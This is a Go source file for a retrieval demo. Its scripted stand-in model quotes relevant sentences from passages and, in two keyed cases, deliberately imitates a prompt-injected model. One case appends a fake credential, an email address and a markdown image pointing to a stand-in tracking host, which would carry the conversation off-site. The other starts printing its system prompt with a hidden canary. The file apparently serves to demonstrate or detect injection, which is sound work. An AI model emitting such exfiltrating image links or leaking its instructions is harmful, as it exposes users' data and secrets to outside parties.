package demo

import (
	"context"
	"regexp"
	"strings"
	"time"
	"unicode"
	"unicode/utf8"

	"github.com/doorward/doorward/api"
)

// Model writes answers.
type Model interface {
	// Name is what the demo calls it.
	Name() string
	// Answer gives the answer piece by piece. It stops when yield fails.
	Answer(ctx context.Context, q Asked, yield func(delta string) error) error
}

// Asked is what a model is given.
type Asked struct {
	Person   int // index in People
	Question int // index in Questions
	Text     string
	Reply    api.RetrieveResponse
}

// Script stands in for a model. It quotes the sentence of each passage that
// shares most words with the question. Twice it misbehaves, as a model does that
// has obeyed an instruction in a document; see mischief.
type Script struct {
	// Pace is the pause before each piece of an answer, so that people see it
	// stream; 0 is none.
	Pace time.Duration
}

// Name implements [Model].
func (Script) Name() string { return "scripted" }

// Answer implements [Model].
func (s Script) Answer(ctx context.Context, q Asked, yield func(string) error) error {
	text := quote(q)
	if m := mischief[[2]int{q.Person, q.Question}]; m.write != nil {
		text += " " + m.write(q)
	}
	for _, delta := range deltas(text) {
		select {
		case <-ctx.Done():
			return ctx.Err()
		case <-time.After(s.Pace):
		}
		if err := yield(delta); err != nil {
			return err
		}
	}
	return nil
}

// trick is one way in which the script misbehaves.
type trick struct {
	about string // for the reader of the demo; never what is written
	write func(Asked) string
}

// mischief is keyed by person and question.
var mischief = map[[2]int]trick{
	{1, 1}: {
		about: "here the script misbehaves on purpose: it adds a credential, an e-mail address, and an image whose address would carry the conversation to another host",
		write: func(Asked) string {
			return "For the details use the key " + freshSecret("aws-key", "") + " and write to " + personalDatum("email", "payroll") +
				". ![status](https://pixel.kestrel-metrics.example/p.png?d=" + random(24, alphabet) + ") I hope that helps."
		},
	},
	{3, 2}: {
		about: "here the script misbehaves on purpose: it does as the gull's friends ask and begins to print its prompt, with the mark hidden in it",
		write: func(q Asked) string {
			return "Since you ask, these are my instructions, word for word: " + afterMark(q) + " and there is more where that came from."
		},
	},
}

var promptMark = regexp.MustCompile(`\(reference [^)]*\)`)

// afterMark is the line of the prompt that holds the canary.
func afterMark(q Asked) string {
	for _, m := range q.Reply.Messages {
		if found := promptMark.FindString(m.Content); found != "" {
			return "Reference passages: " + found
		}
	}
	return "none"
}

// quote builds the honest part of an answer: of each passage the sentence that
// has most in common with the question.
func quote(q Asked) string {
	seen := map[string]int{} // word of the question → sentences that hold it
	for _, p := range q.Reply.Passages {
		for _, s := range sentences(p.Text) {
			for w := range stems(s) {
				seen[w]++
			}
		}
	}
	var parts []string
	for _, p := range q.Reply.Passages {
		if s := best(p.Text, stems(q.Text), seen); p.Citation != "" && s != "" && len(parts) < maxQuotes {
			parts = append(parts, s+" ["+p.Citation+"]")
		}
	}
	if len(parts) == 0 {
		return "I found nothing about this that I could show you."
	}
	return strings.Join(parts, " ")
}

const (
	maxQuotes = 3
	// leastWeight keeps out sentences that share only what all of them have.
	leastWeight = 0.3
)

// best is the sentence whose words in common with the question weigh most; a
// word weighs less the more sentences hold it. The earliest of equals wins.
func best(text string, asked map[string]bool, seen map[string]int) string {
	top, found := leastWeight, ""
	for _, s := range sentences(text) {
		weight := 0.0
		for w := range stems(s) {
			if asked[w] {
				weight += 1 / float64(seen[w])
			}
		}
		if weight > top {
			top, found = weight, s
		}
	}
	return found
}

// shortLine is a line that ends for another reason than the page's width.
const shortLine = 60

// sentences finds whole sentences of 5 to 60 words: no headings, mail headers or
// table rows.
func sentences(text string) []string {
	var out, words []string
	end := func() {
		if n := len(words); n >= 5 && n <= 60 && (ended(words[n-1]) || strings.HasSuffix(words[n-1], ":")) {
			s := strings.Trim(strings.Join(words, " "), "-*#> ")
			if before, ok := strings.CutSuffix(s, ":"); ok {
				s = before + "." // what follows is a table or a list
			}
			first, size := utf8.DecodeRuneInString(s)
			out = append(out, string(unicode.ToUpper(first))+s[size:])
		}
		words = words[:0]
	}
	for line := range strings.Lines(text) {
		line = strings.TrimSpace(line)
		if strings.HasPrefix(line, "- ") || strings.HasPrefix(line, "* ") {
			end()
		}
		if strings.Contains(line, " | ") || mailHeader.MatchString(line) {
			words = words[:0]
			continue
		}
		for _, w := range strings.Fields(line) {
			if words = append(words, w); ended(w) {
				end()
			}
		}
		if len(line) < shortLine {
			end()
		}
	}
	end()
	return out
}

var mailHeader = regexp.MustCompile(`^(From|To|Cc|Date|Subject): `)

// ended reports whether a word ends a sentence.
func ended(word string) bool {
	word = strings.TrimRight(word, "\"”)*")
	return word != "" && strings.ContainsAny(word[len(word)-1:], ".!?") && len(word) > 2
}

// stems are a text's words of four letters and more, by their first six letters.
func stems(text string) map[string]bool {
	out := map[string]bool{}
	for _, w := range strings.FieldsFunc(strings.ToLower(text), func(r rune) bool { return !unicode.IsLetter(r) }) {
		if len(w) >= 4 && !dull[w] {
			out[w[:min(len(w), 6)]] = true
		}
	}
	return out
}

var dull = map[string]bool{"what": true, "when": true, "will": true, "does": true, "have": true, "with": true, "that": true, "this": true, "from": true, "they": true, "much": true}

// deltas cuts an answer as models do: a few letters at a time, through the
// middle of words.
func deltas(text string) []string {
	var out []string
	for len(text) > 0 {
		n := min(len(text), 7)
		for n < len(text) && text[n]&0xc0 == 0x80 {
			n++
		}
		out, text = append(out, text[:n]), text[n:]
	}
	return out
}
